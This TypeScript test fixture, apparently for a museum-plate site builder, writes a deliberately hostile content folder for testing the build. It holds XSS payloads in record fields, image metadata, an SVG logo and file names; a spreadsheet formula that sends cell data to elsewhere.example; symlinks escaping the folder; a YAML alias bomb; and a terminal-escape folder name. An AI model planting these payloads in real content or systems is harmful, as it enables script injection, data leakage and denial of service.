/**
 * A content folder that is made to do harm, for a whole build: markup in every text that a
 * record, a table or a camera can hold, links out of the folder, records that multiply, a logo
 * that runs a script. One plate is sound apart from its words, so that there are pages.
 */
import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import sharp from 'sharp';
import { stringify } from 'yaml';
import { blobs, writeCapture, writeSmallContent } from './small-content.ts';

const size = { width: 256, height: 208 };
/** Ends whatever it may stand in, and begins something that runs. */
export const markup =
  `'"--></style></title></script><script>alert(7101)</script>` +
  `<img src=x onerror=alert(7102)><svg onload=alert(7103)>]]>`;
/** What lies outside of the folder and must not get in. */
export const outsideWords = 'the keys are under the mat 7104';
/** What a camera or a person wrote into the file of a capture. */
export const writtenInFile = 'alert(7105)';
export const formula = '=HYPERLINK("https://elsewhere.example/?"&A1,"7106")';

/** IPTC-IIM records in the segment that photographers' programs write (APP13, resource 0x0404). */
function iptcSegment(fields: Readonly<Record<number, string>>): Buffer {
  const records = Object.entries(fields).map(([number, value]) => {
    const text = Buffer.from(value);
    return Buffer.concat([Buffer.from([0x1c, 2, Number(number), 0, text.length]), text]);
  });
  const body = Buffer.concat(records);
  const even = body.length % 2 === 0 ? body : Buffer.concat([body, Buffer.alloc(1)]);
  const head = Buffer.from('Photoshop 3.0\0' + '8BIM\x04\x04\0\0\0\0\0\0', 'latin1');
  head.writeUInt32BE(body.length, head.length - 4);
  const segment = Buffer.concat([Buffer.from([0xff, 0xed, 0, 0]), head, even]);
  segment.writeUInt16BE(segment.length - 2, 2);
  return segment;
}

/** A JPEG with markup in EXIF, XMP and IPTC, in the fields that pages of other programs show. */
async function writeTalkativeCapture(path: string, data: Uint8Array): Promise<void> {
  const words = `<script>${writtenInFile}</script>"><img src=x onerror=${writtenInFile}>`;
  const written = words.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  const names = ['ImageDescription', 'Artist', 'Copyright', 'Make', 'Model', 'Software'];
  const jpeg = await sharp(data, { raw: { ...size, channels: 1 } })
    .withExif({ IFD0: Object.fromEntries(names.map((name) => [name, words])) })
    .withXmp(
      '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">' +
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" ' +
        `xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${written}</dc:creator>` +
        `<dc:title>${written}</dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`,
    )
    .jpeg({ quality: 95 })
    .toBuffer();
  const iptc = iptcSegment({ 5: words, 80: words, 116: words, 120: words });
  await writeFile(path, Buffer.concat([jpeg.subarray(0, 2), iptc, jpeg.subarray(2)]));
}

const withText = (front: object, text: string) => `---\n${stringify(front)}---\n\n${text}\n`;
const rights = 'http://rightsstatements.org/vocab/NKC/1.0/';

async function writeWordyPlate(plate: string): Promise<void> {
  const say = (field: string) => `${field} ${markup}`;
  const record = {
    ...{ title: say('title'), objectNumber: formula, process: 'daguerreotype', date: '1850' },
    ...{ maker: [{ name: formula, role: say('role') }], place: `@${say('place')}`, rights },
    ...{ size: [70, 83], credit: `+${say('credit')}`, describedBy: { name: say('describer') } },
    housing: { case: say('case'), seal: say('seal') },
    marks: [{ transcription: say('mark'), position: say('position') }],
    handColouring: say('colouring'),
    description: { positive: say('positive'), negative: say('negative') },
    communityLabels: [{ name: say('label'), text: say('labelled') }],
    wording: [{ original: say('original'), source: say('source'), note: say('worded') }],
    condition: [{ term: 'tarnish', note: say('tarnish') }],
    changes: [{ date: '2026-01-01', note: say('change') }],
    spots: [{ id: 'spot', region: '10,10,40,40', title: say('spot'), note: say('noted') }],
    looks: [{ id: 'look', title: say('look'), steps: [{ text: say('step'), spot: 'spot' }] }],
  };
  const body = `${markup}\n\n[link](javascript:alert(7107)) [data](data:text/html,<script>alert(7108)</script>)\n\n## Provenance\n\n- 1850: ${markup}`;
  await writeFile(join(plate, 'plate.md'), withText(record, body));
  const file = '<svg onload=alert(7109)>.jpg';
  await writeTalkativeCapture(join(plate, 'captures', file), blobs(1, size));
  const capture = { setup: 'normal', reading: 'positive', note: say('capture') };
  const sitting = {
    ...{ date: '2026-05-04', operator: say('operator'), base: 'normal' },
    scale: { pixelsPerMillimetre: 5 },
    captures: [
      { id: 'normal', file, ...capture },
      { id: 'axial', file: 'axial.png', ...capture, setup: 'axial', reading: 'negative' },
    ],
  };
  await writeFile(join(plate, 'sitting.yaml'), stringify(sitting));
}

/** @param outside A folder beside the content; links lead into it. */
export async function writeHostileContent(content: string, outside: string): Promise<void> {
  await writeSmallContent(content, size);
  const plates = join(content, 'plates');
  await writeWordyPlate(join(plates, 'first'));
  const collection = {
    ...{ title: `Plates ${markup}`, institution: { name: `Museum ${markup}` }, languages: ['en'] },
    ...{ advisory: `Care ${markup}`, theme: { logo: 'logo.svg' } },
    footer: [{ text: `Footer ${markup}` }],
  };
  await writeFile(join(content, 'collection.md'), withText(collection, markup));
  await writeFile(
    join(content, 'logo.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(7110)</script></svg>',
  );

  await mkdir(outside, { recursive: true });
  await writeCapture(join(outside, 'secret.tif'), blobs(99, size), size);
  const secret = withText({ title: outsideWords }, outsideWords);
  await writeFile(join(outside, 'secret.md'), secret);
  await writeFile(join(outside, 'theme.css'), `/* ${outsideWords} */ body { color: red }`);
  await symlink(join(outside, 'theme.css'), join(content, 'theme.css'));
  await mkdir(join(content, 'lessons'), { recursive: true });
  await symlink(join(outside, 'secret.md'), join(content, 'lessons', 'secret.md'));
  await symlink('../outside/secret.md', join(content, 'about.md'));
  await symlink(outside, join(plates, 'elsewhere'));
  const second = join(plates, 'second');
  await symlink(join(outside, 'secret.tif'), join(second, 'captures', 'secret.tif'));
  const sitting = await readFile(join(second, 'sitting.yaml'), 'utf8');
  const linked = '  - { id: secret, file: secret.tif, setup: raking, reading: mixed }\n';
  await writeFile(join(second, 'sitting.yaml'), sitting + linked);

  const bomb = join(plates, 'bomb');
  await mkdir(join(bomb, 'captures'), { recursive: true });
  await writeFile(join(bomb, 'plate.md'), await readFile(join(second, 'plate.md')));
  const level = (name: string, of: string) =>
    `${name}: &${name} [${Array<string>(9).fill(`*${of}`).join()}]\n`;
  const levels = [...'bcdefghij'].map((name, k) => level(name, 'abcdefghij'[k]));
  await writeFile(join(bomb, 'sitting.yaml'), `a: &a [x,x,x]\n${levels.join('')}captures: *j\n`);
  await mkdir(join(plates, '<script>alert(7111)<'), { recursive: true });
  // A name that a terminal would obey.
  await mkdir(join(plates, '\u001b]0;7112\u0007\u001b[2J'), { recursive: true });
}
